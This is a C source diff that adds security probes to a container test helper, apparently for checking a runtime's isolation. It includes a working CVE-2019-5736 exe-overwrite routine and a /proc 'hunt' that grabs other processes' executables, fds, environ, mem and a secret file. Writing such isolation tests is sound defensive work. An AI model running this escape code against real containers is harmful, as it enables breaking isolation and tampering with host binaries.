@@ -15,7 +15,7 @@
  *   probe fds          open fds and what they point to
  *   probe pid          pid, ppid, process group, session
  *   probe caps         the five capability sets, NoNewPrivs, Seccomp
- *   probe rlimits      soft/hard limits
+ *   probe rlimits      soft/hard limits (all 16 RLIMIT_* types)
  *   probe cgroup       /proc/self/cgroup lines
  *   probe net          network interfaces and whether they are up
  *   probe tty          isatty() of fds 0, 1, 2
@@ -28,6 +28,24 @@
  *   probe cat          copy stdin to stdout
  *   probe echo ARG..   print ARGs as a JSON list (args reached us intact)
  *   probe write PATH TEXT   write TEXT to PATH ({"ok":..,"errno":..})
+ *   probe syscall NR [ARG..] [-- NR [ARG..]]..   raw syscall(2)s, numbers in C notation:
+ *                      [{"nr":..,"ret":..,"errno":..}, ..] (a seccomp filter seen from inside)
+ *   probe sched        sched_getattr(2): policy, nice, priority, flags; getpriority()
+ *   probe ioprio       ioprio_get(2) of the process: class and level
+ *   probe personality  personality(0xffffffff) and uname's machine
+ *   probe nnp          PR_GET_NO_NEW_PRIVS and NoNewPrivs of /proc/self/status
+ *   probe exe          readlink /proc/self/exe; can it be opened O_WRONLY / O_RDWR (never written)
+ *   probe cwdinfo      getcwd() and whether "." lies under "/" (walking "..", by dev/inode)
+ *   probe read PATH..  [{"path","ok","errno","opened","open_errno","size","data"}] (data: the
+ *                      first 256 bytes; errno: of the open or else of the read)
+ *   probe openw PATH.. [{"path","ok","errno"}] for open(O_WRONLY) (closed at once, never written)
+ *   probe exe-attack PID SECONDS   CVE-2019-5736: hold /proc/PID/exe, print what that gave,
+ *                      then keep trying to reopen it for writing and append a marker line;
+ *                      a second line says whether that worked
+ *   probe hunt SECONDS SECRET   print "ready", watch /proc for other processes for SECONDS and
+ *                      try /proc/PID/exe, /proc/PID/root/SECRET, the fds in /proc/PID/fd, /proc/PID/environ
+ *                      and opening /proc/PID/mem O_RDWR (never used) of each (stops early once
+ *                      SECRET was read); at the end try to write (append to) the executables it held
  *
  * Unknown subcommands exit 2.  No dependencies beyond libc.
  */
@@ -43,9 +61,11 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/prctl.h>
 #include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
 #include <sys/utsname.h>
@@ -393,6 +413,11 @@ static void rep_rlimits(void)
 		{RLIMIT_NOFILE, "RLIMIT_NOFILE"}, {RLIMIT_NPROC, "RLIMIT_NPROC"},
 		{RLIMIT_CORE, "RLIMIT_CORE"},     {RLIMIT_STACK, "RLIMIT_STACK"},
 		{RLIMIT_AS, "RLIMIT_AS"},         {RLIMIT_CPU, "RLIMIT_CPU"},
+		{RLIMIT_FSIZE, "RLIMIT_FSIZE"},   {RLIMIT_DATA, "RLIMIT_DATA"},
+		{RLIMIT_RSS, "RLIMIT_RSS"},       {RLIMIT_MEMLOCK, "RLIMIT_MEMLOCK"},
+		{RLIMIT_LOCKS, "RLIMIT_LOCKS"},   {RLIMIT_SIGPENDING, "RLIMIT_SIGPENDING"},
+		{RLIMIT_MSGQUEUE, "RLIMIT_MSGQUEUE"}, {RLIMIT_NICE, "RLIMIT_NICE"},
+		{RLIMIT_RTPRIO, "RLIMIT_RTPRIO"}, {RLIMIT_RTTIME, "RLIMIT_RTTIME"},
 	};
 	for (size_t i = 0; i < sizeof lim / sizeof lim[0]; i++) {
 		struct rlimit rl;
@@ -602,10 +627,446 @@ static int cmd_write(const char *path, const char *text)
 	return err ? 1 : 0;
 }
 
+/* syscall(NR, ARGS...) for each "--"-separated group: what a seccomp filter made of it. */
+static int cmd_syscall(int argc, char **argv)
+{
+	open_arr();
+	int i = 0;
+	while (i < argc) {
+		long a[7] = {0};
+		int n = 0;
+		for (; i < argc && strcmp(argv[i], "--") != 0; i++)
+			if (n < 7)
+				a[n++] = (long)strtoull(argv[i], NULL, 0);
+		i++; /* past "--" */
+		if (n == 0)
+			continue;
+		errno = 0;
+		long r = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
+		int err = r < 0 ? errno : 0;
+		open_obj();
+		kv_int("nr", a[0]);
+		kv_int("ret", r);
+		kv_int("errno", err);
+		close_obj();
+	}
+	close_arr();
+	end_line();
+	return 0;
+}
+
+/* ---------------------------------------------------------------- security probes */
+
+/* One {"path", "ok", "errno"} object for an open(2) of `path` with `flags` (closed at once). */
+static void rep_open(const char *path, int flags)
+{
+	int fd = open(path, flags | O_CLOEXEC);
+	int err = fd < 0 ? errno : 0;
+	if (fd >= 0)
+		close(fd);
+	open_obj();
+	kv_str("path", path);
+	kv_bool("ok", fd >= 0);
+	kv_int("errno", err);
+	close_obj();
+}
+
+/* read PATH..: [{"path", "ok", "errno", "opened", "open_errno", "size", "data"}] */
+static void rep_read(const char *path)
+{
+	char buf[4096];
+	size_t len = 0;
+	int err = 0;
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	int open_err = fd < 0 ? errno : 0;
+	if (fd < 0) {
+		err = errno;
+	} else {
+		for (;;) {
+			ssize_t n = read(fd, buf + len, sizeof buf - 1 - len);
+			if (n < 0 && errno == EINTR)
+				continue;
+			if (n < 0)
+				err = errno;
+			if (n <= 0)
+				break;
+			len += (size_t)n;
+			if (len == sizeof buf - 1)
+				break;
+		}
+		close(fd);
+	}
+	buf[len] = '\0';
+	if (len > 256)
+		buf[256] = '\0';
+	open_obj();
+	kv_str("path", path);
+	kv_bool("ok", fd >= 0 && err == 0);
+	kv_int("errno", err);
+	kv_bool("opened", fd >= 0);
+	kv_int("open_errno", open_err);
+	kv_int("size", (long long)len);
+	kv_str("data", buf);
+	close_obj();
+}
+
+/* sched: sched_getattr(2) of this process, and its nice value */
+static void rep_sched(void)
+{
+	struct {
+		unsigned size, policy;
+		unsigned long long flags;
+		int nice;
+		unsigned priority;
+		unsigned long long runtime, deadline, period;
+		unsigned util_min, util_max;
+	} attr;
+	memset(&attr, 0, sizeof attr);
+	long r = syscall(SYS_sched_getattr, 0, &attr, (unsigned)sizeof attr, 0);
+	kv_int("errno", r < 0 ? errno : 0);
+	kv_int("policy", attr.policy & ~0x40000000u /* SCHED_RESET_ON_FORK */);
+	kv_bool("reset_on_fork", !!(attr.policy & 0x40000000u) || !!(attr.flags & 1));
+	kv_int("nice", attr.nice);
+	kv_int("priority", attr.priority);
+	kv_uint("flags", attr.flags);
+	kv_uint("runtime", attr.runtime);
+	kv_uint("deadline", attr.deadline);
+	kv_uint("period", attr.period);
+	errno = 0;
+	int prio = getpriority(PRIO_PROCESS, 0);
+	kv_int("getpriority", errno ? 999 : prio);
+}
+
+/* ioprio: ioprio_get(IOPRIO_WHO_PROCESS, 0) as class and level */
+static void rep_ioprio(void)
+{
+	long v = syscall(SYS_ioprio_get, 1, 0);
+	kv_int("raw", v);
+	kv_int("errno", v < 0 ? errno : 0);
+	kv_int("class", v < 0 ? -1 : (v >> 13) & 7);
+	kv_int("level", v < 0 ? -1 : v & 0x1fff);
+}
+
+/* personality: the persona (personality(0xffffffff)) and uname's machine */
+static void rep_personality(void)
+{
+	struct utsname u;
+	long p = syscall(SYS_personality, 0xffffffffUL);
+	uname(&u);
+	kv_int("personality", p);
+	kv_int("domain", p < 0 ? -1 : p & 0xff);
+	kv_str("machine", u.machine);
+}
+
+/* nnp: prctl(PR_GET_NO_NEW_PRIVS) and the NoNewPrivs line of /proc/self/status */
+static void rep_nnp(void)
+{
+	kv_int("prctl", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
+	kv_str("status", status_field("NoNewPrivs"));
+}
+
+/* exe: where /proc/self/exe leads, and whether it can be opened for writing (never written) */
+static void rep_exe(void)
+{
+	char target[PATH_MAX];
+	ssize_t n = readlink("/proc/self/exe", target, sizeof target - 1);
+	target[n < 0 ? 0 : n] = '\0';
+	kv_str("exe", n < 0 ? NULL : target);
+	key("wronly");
+	rep_open("/proc/self/exe", O_WRONLY);
+	key("rdwr");
+	rep_open("/proc/self/exe", O_RDWR);
+}
+
+/* cwdinfo: getcwd(), and whether "." lies under "/" (walking ".." up, by device and inode) */
+static void rep_cwdinfo(void)
+{
+	char buf[PATH_MAX];
+	struct stat root, cur, up;
+	errno = 0;
+	char *cwd = getcwd(buf, sizeof buf);
+	kv_str("cwd", cwd);
+	kv_int("errno", cwd ? 0 : errno);
+	int inside = 0;
+	if (stat("/", &root) == 0 && stat(".", &cur) == 0) {
+		char rel[3 * 256 + 2] = ".";
+		for (int i = 0; i < 256; i++) {
+			if (cur.st_dev == root.st_dev && cur.st_ino == root.st_ino) {
+				inside = 1;
+				break;
+			}
+			strcat(rel, "/..");
+			if (stat(rel, &up) != 0)
+				break;
+			if (up.st_dev == cur.st_dev && up.st_ino == cur.st_ino)
+				break; /* the top of a tree that is not our root */
+			cur = up;
+		}
+	}
+	kv_bool("inside_root", inside);
+}
+
+/* end_line() for commands that print several lines: the next line starts a new value */
+static void end_report_line(void)
+{
+	end_line();
+	need_comma[0] = 0;
+}
+
+static int write_marker(int fd)
+{
+	static const char marker[] = "\n#ocirun-cve-test: written from inside a container\n";
+	return write(fd, marker, sizeof marker - 1) == (ssize_t)(sizeof marker - 1) ? 0 : errno;
+}
+
+static void sleep_ms(long ms)
+{
+	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
+	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
+		;
+}
+
+static double now_s(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+/* exe-attack PID SECONDS: CVE-2019-5736 against a runtime process visible in the container.
+ * Holds /proc/PID/exe (O_PATH), prints {"holding": ...}, then, until SECONDS pass, tries to
+ * reopen what it holds for writing (possible once nothing executes it any more) and appends a
+ * marker line; prints the outcome as a second line. */
+static int cmd_exe_attack(const char *pid, const char *secs)
+{
+	char path[64], target[PATH_MAX], fdpath[64];
+	snprintf(path, sizeof path, "/proc/%s/exe", pid);
+	ssize_t n = readlink(path, target, sizeof target - 1);
+	int link_err = n < 0 ? errno : 0;
+	target[n < 0 ? 0 : n] = '\0';
+	int fd = open(path, O_PATH | O_CLOEXEC);
+	int path_err = fd < 0 ? errno : 0;
+	int direct = open(path, O_WRONLY | O_CLOEXEC);
+	int direct_err = direct < 0 ? errno : 0;
+	if (direct >= 0)
+		close(direct);
+	open_obj();
+	kv_str("exe", n < 0 ? NULL : target);
+	kv_int("readlink_errno", link_err);
+	kv_bool("held", fd >= 0);
+	kv_int("open_path_errno", path_err);
+	kv_bool("direct_wronly_ok", direct >= 0);
+	kv_int("direct_wronly_errno", direct_err);
+	close_obj();
+	end_report_line();
+	if (fd < 0)
+		return 0;
+	snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
+	double end = now_s() + (secs ? atof(secs) : 5);
+	int opened = 0, open_err = 0, write_err = -1, tries = 0;
+	while (now_s() < end) {
+		tries++;
+		int w = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC);
+		if (w >= 0) {
+			opened = 1;
+			write_err = write_marker(w);
+			close(w);
+			break;
+		}
+		open_err = errno;
+		sleep_ms(5);
+	}
+	open_obj();
+	kv_int("tries", tries);
+	kv_bool("reopened_for_write", opened);
+	kv_int("reopen_errno", opened ? 0 : open_err);
+	kv_bool("wrote", opened && write_err == 0);
+	kv_int("write_errno", write_err < 0 ? 0 : write_err);
+	close_obj();
+	end_report_line();
+	return 0;
+}
+
+/* hunt SECONDS SECRET: watches /proc for other processes (runtime processes joining the
+ * container) and tries what an attacker would: hold /proc/PID/exe, read SECRET through
+ * /proc/PID/root, open the fds in /proc/PID/fd and /proc/PID/environ.  Prints "ready", then one line:
+ * {"scans", "pids", "grabbed": [{"pid", "exe", "secret", "fds", "environ"}], "writes": [...]} */
+static int cmd_hunt(const char *secs, const char *secret)
+{
+	enum { MAXP = 256 };
+	struct {
+		int pid, exe_fd;
+		char exe[160];
+		char secret[80];
+		int fds, environ_ok, mem_rw;
+	} got[MAXP];
+	int ngot = 0, npids = 0, seen[4096], nseen = 0;
+	long scans = 0;
+	int self = getpid();
+	puts("ready");
+	fflush(stdout);
+	double end = now_s() + (secs ? atof(secs) : 5);
+	while (now_s() < end) {
+		scans++;
+		DIR *d = opendir("/proc");
+		if (!d)
+			break;
+		struct dirent *de;
+		while ((de = readdir(d))) {
+			int pid = atoi(de->d_name);
+			if (pid <= 1 || pid == self)
+				continue;
+			int known = 0;
+			for (int i = 0; i < nseen; i++)
+				if (seen[i] == pid)
+					known = 1;
+			char p[PATH_MAX], t[PATH_MAX];
+			snprintf(p, sizeof p, "/proc/%d/exe", pid);
+			ssize_t n = readlink(p, t, sizeof t - 1);
+			if (!known && nseen < 4096) {
+				seen[nseen++] = pid;
+				npids++;
+			}
+			if (n < 0)
+				continue; /* not ours to look at (non-dumpable), or gone */
+			t[n] = '\0';
+			if (strcmp(t, "/bin/busybox") == 0 || strcmp(t, "/bin/probe") == 0)
+				continue;
+			int already = 0;
+			for (int i = 0; i < ngot; i++)
+				if (got[i].pid == pid && strcmp(got[i].exe, t) == 0)
+					already = 1;
+			if (already || ngot >= MAXP)
+				continue;
+			int g = ngot++;
+			got[g].pid = pid;
+			t[sizeof got[g].exe - 1] = '\0';
+			memcpy(got[g].exe, t, strlen(t) + 1);
+			got[g].exe_fd = open(p, O_PATH | O_CLOEXEC);
+			got[g].secret[0] = '\0';
+			snprintf(p, sizeof p, "/proc/%d/root/%s", pid, secret ? secret : "nonexistent");
+			int s = open(p, O_RDONLY | O_CLOEXEC);
+			if (s >= 0) {
+				ssize_t m = read(s, got[g].secret, sizeof got[g].secret - 1);
+				got[g].secret[m < 0 ? 0 : m] = '\0';
+				close(s);
+			}
+			got[g].fds = 0;
+			snprintf(p, sizeof p, "/proc/%d/fd", pid);
+			DIR *fdd = opendir(p);
+			if (fdd) {
+				struct dirent *fe;
+				while ((fe = readdir(fdd)))
+					if (fe->d_name[0] != '.') {
+						char fp[PATH_MAX];
+						snprintf(fp, sizeof fp, "/proc/%d/fd/%s", pid, fe->d_name);
+						int f = open(fp, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
+						if (f >= 0) {
+							got[g].fds++;
+							close(f);
+						}
+					}
+				closedir(fdd);
+			}
+			snprintf(p, sizeof p, "/proc/%d/environ", pid);
+			int e = open(p, O_RDONLY | O_CLOEXEC);
+			got[g].environ_ok = e >= 0;
+			if (e >= 0)
+				close(e);
+			/* opened only, never read or written: proof enough that its memory was reachable */
+			snprintf(p, sizeof p, "/proc/%d/mem", pid);
+			int m = open(p, O_RDWR | O_CLOEXEC);
+			got[g].mem_rw = m >= 0;
+			if (m >= 0)
+				close(m);
+			if (got[g].secret[0])
+				end = 0; /* proven: report at once */
+		}
+		closedir(d);
+	}
+	open_obj();
+	kv_int("scans", scans);
+	kv_int("pids", npids);
+	key("grabbed");
+	open_arr();
+	for (int i = 0; i < ngot; i++) {
+		open_obj();
+		kv_int("pid", got[i].pid);
+		kv_str("exe", got[i].exe);
+		kv_bool("exe_held", got[i].exe_fd >= 0);
+		kv_str("secret", got[i].secret);
+		kv_int("fds_opened", got[i].fds);
+		kv_bool("environ", got[i].environ_ok);
+		kv_bool("mem_rw", got[i].mem_rw);
+		/* the executables held: can they be written now that the processes are gone? */
+		int wrote = 0, err = 0;
+		if (got[i].exe_fd >= 0) {
+			char fp[64];
+			snprintf(fp, sizeof fp, "/proc/self/fd/%d", got[i].exe_fd);
+			int w = open(fp, O_WRONLY | O_APPEND | O_CLOEXEC);
+			if (w < 0) {
+				err = errno;
+			} else {
+				err = write_marker(w);
+				wrote = err == 0;
+				close(w);
+			}
+		}
+		kv_bool("wrote", wrote);
+		kv_int("write_errno", err);
+		close_obj();
+	}
+	close_arr();
+	close_obj();
+	end_line();
+	return 0;
+}
+
+/* Dispatch of the security probes; -1: not one of them. */
+static int security_cmd(int argc, char **argv)
+{
+	const char *cmd = argv[1];
+	const struct {
+		const char *name;
+		void (*fn)(void);
+	} objs[] = {
+		{"sched", rep_sched}, {"ioprio", rep_ioprio}, {"personality", rep_personality},
+		{"nnp", rep_nnp},     {"exe", rep_exe},       {"cwdinfo", rep_cwdinfo},
+	};
+	for (size_t i = 0; i < sizeof objs / sizeof objs[0]; i++)
+		if (strcmp(cmd, objs[i].name) == 0) {
+			open_obj();
+			objs[i].fn();
+			close_obj();
+			end_line();
+			return 0;
+		}
+	if (strcmp(cmd, "read") == 0 || strcmp(cmd, "openw") == 0) {
+		open_arr();
+		for (int i = 2; i < argc; i++) {
+			if (cmd[0] == 'r')
+				rep_read(argv[i]);
+			else
+				rep_open(argv[i], O_WRONLY);
+		}
+		close_arr();
+		end_line();
+		return 0;
+	}
+	if (strcmp(cmd, "exe-attack") == 0 && argc >= 3)
+		return cmd_exe_attack(argv[2], argc > 3 ? argv[3] : NULL);
+	if (strcmp(cmd, "hunt") == 0)
+		return cmd_hunt(argc > 2 ? argv[2] : NULL, argc > 3 ? argv[3] : NULL);
+	return -1;
+}
+
 static int usage(void)
 {
 	fputs("usage: probe ids|ns|hostname|mounts|cwd|env|fds|pid|caps|rlimits|cgroup|net|tty|all\n"
-	      "       probe stat PATH...|sleep N|exit N|signals|cat|echo ARG...|write PATH TEXT\n",
+	      "       probe stat PATH...|sleep N|exit N|signals|cat|echo ARG...|write PATH TEXT\n"
+	      "       probe syscall NR [ARG...] [-- NR [ARG...]]...\n"
+	      "       probe sched|ioprio|personality|nnp|exe|cwdinfo|read PATH...|openw PATH...\n"
+	      "       probe exe-attack PID SECONDS|hunt SECONDS SECRET\n",
 	      stderr);
 	return 2;
 }
@@ -659,5 +1120,10 @@ int main(int argc, char **argv)
 		return cmd_cat();
 	if (strcmp(cmd, "write") == 0 && argc == 4)
 		return cmd_write(argv[2], argv[3]);
+	if (strcmp(cmd, "syscall") == 0)
+		return cmd_syscall(argc - 2, argv + 2);
+	int r = security_cmd(argc, argv);
+	if (r >= 0)
+		return r;
 	return usage();
 }
